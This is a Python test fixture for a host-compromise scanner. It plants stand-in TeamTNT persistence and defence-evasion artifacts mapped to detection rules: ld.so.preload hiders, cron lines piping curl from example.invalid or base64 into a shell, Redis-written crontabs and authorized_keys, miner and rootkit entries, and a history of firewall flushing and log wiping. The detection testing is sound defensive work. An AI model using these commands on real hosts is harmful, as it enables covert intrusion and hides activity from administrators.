"""Persistence and defence-evasion artifacts of the THREAT-MAP (Execution, Persistence, Defense
evasion rows): what TeamTNT leaves on disk after the initial exploit. Every artifact is a harmless
stand-in: the "library" and the ".ko" are a few bytes of text, the cron and unit commands point at
`example.invalid` (a name that can never resolve, RFC 2606), the SSH key is made up."""

from __future__ import annotations

import os
from pathlib import Path

from tests.harness.hostroot import Plant, write

# A made-up ed25519 public key (valid base64 shape; not anyone's key).
PLANTED_KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIHBsYW50ZWRLZXlGb3JDbG91ZHdhcmRUZXN0c09ubHkwMDAw"


def _ld_preload(root: Path) -> None:
    write(root, "/usr/local/lib/.libprocesshider.so", "not a library: cloudward fixture stand-in\n", 0o755)
    write(root, "/etc/ld.so.preload", "/usr/local/lib/.libprocesshider.so\n")


def _cron_dropper(root: Path) -> None:
    write(root, "/etc/cron.d/.systemd-update",
          "*/5 * * * * root curl -fsSL http://example.invalid/x.sh | sh > /dev/null 2>&1\n")


def _cron_base64(root: Path) -> None:
    # The base64 text decodes to "echo cloudward fixture" — harmless even if someone ran it.
    write(root, "/var/spool/cron/crontabs/root",
          "*/10 * * * * echo ZWNobyBjbG91ZHdhcmQgZml4dHVyZQo= | base64 -d | bash\n", 0o600)


def _cron_redis(root: Path) -> None:
    # What `CONFIG SET dir /var/spool/cron/crontabs; CONFIG SET dbfilename root; SAVE` leaves: an RDB
    # header, binary framing, and the cron line stored as a value between newlines.
    body = (b"REDIS0009\xfa\tredis-ver\x056.0.16\xfe\x00\xfb\x01\x00\x00\x05backup@\x3c\n\n"
            b"*/2 * * * * root echo cloudward-fixture > /dev/null\n\n\xff\x9a\x1b\x03\x00\x00\x00\x00\x00")
    write(root, "/var/spool/cron/crontabs/root", body, 0o600)


def _systemd_tmp(root: Path) -> None:
    write(root, "/etc/systemd/system/dbus-helper.service",
          "[Unit]\nDescription=D-Bus helper\n\n[Service]\nExecStart=/tmp/.X11-cache/dbus-helper --quiet\n"
          "Restart=always\n\n[Install]\nWantedBy=multi-user.target\n")
    write(root, "/tmp/.X11-cache/dbus-helper", "#!/bin/sh\n# cloudward fixture stand-in\n", 0o755)


def _systemd_miner(root: Path) -> None:
    write(root, "/etc/systemd/system/xmrig.service",
          "[Unit]\nDescription=System service\n\n[Service]\nExecStart=/opt/.sys/xmrig -c /opt/.sys/config.json\n"
          "Restart=always\n\n[Install]\nWantedBy=multi-user.target\n")


def _root_key_world_writable(root: Path) -> None:
    ssh = root / "root/.ssh"
    ssh.mkdir(parents=True, exist_ok=True)
    write(root, "/root/.ssh/authorized_keys", f"ssh-ed25519 {PLANTED_KEY} backup@localhost\n", 0o666)


def _root_key_by_redis(root: Path) -> None:
    body = (b"REDIS0009\xfa\tredis-ver\x056.0.16\xfe\x00\xfb\x01\x00\x00\x04key1@Z\n\n"
            + f"ssh-ed25519 {PLANTED_KEY} root@localhost".encode() + b"\n\n\xff\x00\x01\x02\x03\x04\x05\x06\x07")
    write(root, "/root/.ssh/authorized_keys", body, 0o644)


def _history_dev_null(root: Path) -> None:
    (root / "root/.bash_history").unlink()
    os.symlink("/dev/null", root / "root/.bash_history")


def _history_wiped(root: Path) -> None:
    write(root, "/root/.bash_history",
          "apt upgrade\ncurl -fsSL http://example.invalid/init.sh | bash\niptables -F\nufw disable\n"
          "chattr -i /etc/ld.so.preload\ncat /dev/null > /var/log/wtmp\nrm -rf /var/log/syslog*\nhistory -c\n", 0o600)


def _rc_disables_history(root: Path) -> None:
    write(root, "/root/.bashrc", "alias ll='ls -l'\nexport HISTFILE=/dev/null\n", 0o644)


def _diamorphine_boot(root: Path) -> None:
    write(root, "/etc/modules-load.d/diamorphine.conf", "diamorphine\n")


def _ko_in_tmp(root: Path) -> None:
    write(root, "/tmp/.d/dia.ko", "not a kernel module: cloudward fixture stand-in\n")


PLANTS = [
    Plant("ld-so-preload-processhider", _ld_preload,
          ("host.preload.hidden_or_rootkit_library", "host.preload.ld_so_preload_entry"),
          "/etc/ld.so.preload loading a libprocesshider-named library with a hidden name from /usr/local/lib"),
    Plant("cron-curl-pipe-sh", _cron_dropper, ("host.cron.download_and_execute",),
          "a cron.d file (hidden name) that fetches a script every five minutes and pipes it to sh"),
    Plant("cron-base64-bash", _cron_base64, ("host.cron.base64_pipeline",),
          "root's crontab decoding base64 into bash"),
    Plant("cron-written-by-redis", _cron_redis, ("host.cron.written_by_redis",),
          "root's crontab as Redis's SAVE leaves it after CONFIG SET dir/dbfilename"),
    Plant("systemd-unit-from-tmp", _systemd_tmp, ("host.systemd.runs_from_temp_dir",),
          "a service running a program from a dot directory in /tmp with Restart=always"),
    Plant("systemd-unpackaged-miner", _systemd_miner,
          ("host.systemd.unpackaged_miner_like_service", "host.systemd.runs_from_temp_dir"),
          "an xmrig.service no package owns, always restarting, from a hidden /opt directory"),
    Plant("root-authorized-keys-world-writable", _root_key_world_writable, ("host.ssh_keys.writable_by_others",),
          "a key in root's authorized_keys, the file world-writable"),
    Plant("root-authorized-keys-by-redis", _root_key_by_redis, ("host.ssh_keys.written_by_redis",),
          "root's authorized_keys as Redis's SAVE leaves it after CONFIG SET dir /root/.ssh"),
    Plant("history-linked-to-dev-null", _history_dev_null, ("host.history.linked_to_dev_null",),
          "root's .bash_history replaced by a link to /dev/null"),
    Plant("history-dropper-and-log-wipe", _history_wiped,
          ("host.history.log_clearing", "host.history.defense_evasion", "host.history.download_and_execute"),
          "root's history: curl | bash, iptables -F, ufw disable, chattr -i, logs emptied, history -c"),
    Plant("history-disabled-in-bashrc", _rc_disables_history, ("host.history.disabled_in_rc",),
          "root's .bashrc exporting HISTFILE=/dev/null"),
    Plant("diamorphine-modules-load", _diamorphine_boot, ("host.module.known_rootkit",),
          "a modules-load.d entry loading Diamorphine at boot"),
    Plant("kernel-module-in-tmp", _ko_in_tmp, ("host.module.ko_outside_module_tree",),
          "a .ko file in a hidden /tmp directory"),
]
